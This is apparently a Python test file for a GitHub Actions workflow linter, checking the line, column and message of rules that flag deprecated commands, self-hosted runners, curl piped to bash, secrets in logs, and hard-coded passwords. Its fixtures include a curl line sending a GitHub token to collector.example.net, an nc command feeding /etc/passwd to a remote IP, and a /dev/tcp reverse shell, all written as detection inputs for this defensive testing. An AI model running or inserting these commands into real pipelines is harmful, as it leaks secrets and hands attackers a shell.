"""Rules over parsed `run:` scripts and job settings: insecure and deprecated workflow
commands, self-hosted runners, curl|sh, secrets on command lines, exfiltration,
hard-coded container passwords. Exact positions and messages."""

from lintkit.testing import lint_files

HEAD = "on: {on}\npermissions: {{}}\njobs:\n  j:\n    runs-on: {runs_on}\n"


def findings(text, select):
    return [(f.rule, f.line, f.column, f.span.end_column, f.message) for f in lint_files({".github/workflows/w.yml": text}, select=select)]


def workflow(steps, on="push", runs_on="ubuntu-24.04", job_extra=""):
    return HEAD.format(on=on, runs_on=runs_on) + job_extra + "    steps:\n" + steps


def test_insecure_commands_at_every_level_and_only_when_true():
    text = (
        "on: push\npermissions: {}\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'TRUE'\njobs:\n  j:\n    runs-on: ubuntu-24.04\n"
        "    steps:\n      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n"
    )
    assert [(r, line, col) for r, line, col, _, _ in findings(text, ["GH012"])] == [("GH012", 4, 3)]


def test_deprecated_command_is_the_printed_argument():
    steps = (
        "      - run: |\n"
        "          echo \"::set-output name=tag::${{ github.sha }}\"\n"
        "          echo ::add-path::/opt/bin\n"
        "          echo \"::set-output name=x::1\" >> \"$GITHUB_OUTPUT\"\n"
        "          echo \"::debug::fine\"\n"
    )
    result = findings(workflow(steps), ["GH013"])
    assert result == [
        ("GH013", 8, 16, 58, '`::set-output` is a retired workflow command; use `echo "{name}={value}" >> "$GITHUB_OUTPUT"`'),
        ("GH013", 9, 16, 36, '`::add-path` is a retired workflow command; use `echo "{path}" >> "$GITHUB_PATH"`'),
    ]


def test_deprecated_command_in_powershell():
    steps = "      - shell: pwsh\n        run: Write-Output \"::save-state name=pid::42\"\n"
    [(rule, line, column, _, message)] = findings(workflow(steps), ["GH013"])
    assert (line, column) == (8, 27) and "::save-state" in message


def test_self_hosted_only_on_public_triggers():
    steps = "      - run: make\n"
    assert findings(workflow(steps, on="push", runs_on="[self-hosted, linux]"), ["GH014"]) == []
    [(rule, line, column, end, message)] = findings(workflow(steps, on="pull_request", runs_on="[self-hosted, linux]"), ["GH014"])
    assert (line, column, end) == (5, 15, 26)
    assert message == "job 'j' runs on a self-hosted runner and `pull_request` lets outsiders run code on it"


def test_self_hosted_through_the_matrix():
    job = "    strategy:\n      matrix:\n        os: [ubuntu-24.04, self-hosted]\n"
    text = workflow("      - run: make\n", on="pull_request", runs_on="${{ matrix.os }}", job_extra=job)
    [(_, line, _, _, message)] = findings(text, ["GH014"])
    assert line == 5 and "matrix entry on line 8" in message


def test_curl_pipe_shell_points_at_the_download():
    steps = "      - run: |\n          set -e\n          curl -fsSL https://get.example.com | sudo bash -s -- --yes\n"
    [(_, line, column, end, message)] = findings(workflow(steps), ["GH015"])
    assert (line, column, end) == (9, 11, 45)
    assert message == "downloaded script is run by `bash` without verification"


def test_pwsh_scripts_are_not_read_as_posix_shell():
    steps = "      - shell: pwsh\n        run: curl https://get.example.com | sh\n"
    assert findings(workflow(steps), ["GH015"]) == []


def test_secret_printed_through_env_and_expression():
    steps = (
        "      - env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n          TOKEN_FILE: /tmp/t\n"
        "        run: |\n"
        "          echo \"token is $TOKEN\"\n"
        "          echo \"$TOKEN_FILE\"\n"
        "          echo \"$TOKEN\" | docker login --password-stdin ghcr.io\n"
        "          echo \"${{ secrets.OTHER }}\" > secret.txt\n"
        "          printf '%s' \"${{ secrets.OTHER }}\"\n"
    )
    result = [(line, message) for _, line, _, _, message in findings(workflow(steps), ["GH016"])]
    assert result == [
        (11, "`echo` prints $TOKEN (`secrets.DEPLOY_TOKEN`) to the log, where GitHub's masking is easily defeated"),
        (15, "`printf` prints `secrets.OTHER` to the log, where GitHub's masking is easily defeated"),
    ]


def test_password_flag_of_registry_login():
    steps = "      - run: |\n          docker login -u bot --password=\"$PASS\" ghcr.io\n"
    [(_, line, column, end, message)] = findings(workflow(steps), ["GH016"])
    assert (line, column, end) == (8, 31, 49)
    assert message == "`docker login` gets the password on its command line; pipe it to `--password-stdin`"


def test_token_sent_to_another_host_but_not_to_github():
    steps = (
        "      - env:\n          GH_TOKEN: ${{ github.token }}\n"
        "        run: |\n"
        "          curl -H \"Authorization: Bearer $GH_TOKEN\" https://api.github.com/repos/o/r\n"
        "          curl -H \"Authorization: Bearer $GH_TOKEN\" \"${{ github.api_url }}/repos/o/r\"\n"
        "          curl -d \"t=$GH_TOKEN\" https://collector.example.net/x\n"
        "          curl -H \"Authorization: Bearer $GH_TOKEN\" \"$SOME_URL\"\n"
    )
    [(_, line, column, _, message)] = findings(workflow(steps), ["GH017"])
    assert (line, column) == (12, 19)
    assert message == "`curl` sends the GitHub token to collector.example.net, which is not GitHub"


def test_reverse_shell_patterns():
    steps = "      - run: |\n          nc 203.0.113.7 4444 < /etc/passwd\n          bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\n          nc -z localhost 8080\n"
    result = [(line, message.split(" (")[0]) for _, line, _, _, message in findings(workflow(steps), ["GH017"])]
    assert result == [
        (8, "`nc` connects to the IP address 203.0.113.7"),
        (9, "redirection to /dev/tcp/203.0.113.7/9001 opens a connection to a remote host"),
    ]


def test_hardcoded_container_password_is_masked():
    job = (
        "    container:\n      image: ghcr.io/o/ci:1\n      credentials:\n        username: bot\n        password: hunter2hunter2\n"
        "    services:\n      db:\n        image: ghcr.io/o/db:1\n        credentials:\n          username: bot\n"
        "          password: ${{ secrets.DB_REGISTRY }}\n"
    )
    [(_, line, column, _, message)] = findings(workflow("      - run: make\n", job_extra=job), ["GH018"])
    assert (line, column) == (10, 19)
    assert message == "job 'j': the container's registry password is written in the workflow (hu********); use a secret"
    assert "hunter2" not in message
